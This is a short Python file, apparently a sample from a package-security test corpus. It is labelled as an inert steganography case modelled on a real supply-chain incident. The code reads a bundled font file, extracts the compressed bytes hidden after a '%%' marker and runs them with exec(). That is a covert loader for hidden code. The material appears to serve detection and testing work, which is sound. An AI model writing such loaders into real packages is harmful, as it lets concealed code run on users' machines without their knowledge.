# pkgguard corpus 258 (steganography), modelled on [telnyx]; inert, never run.
import importlib.resources
import zlib

_font = importlib.resources.files(__package__).joinpath("glyphs.ttf").read_bytes()
_tail = _font[_font.rfind(b"%%") + 2 :]
exec(zlib.decompress(_tail))
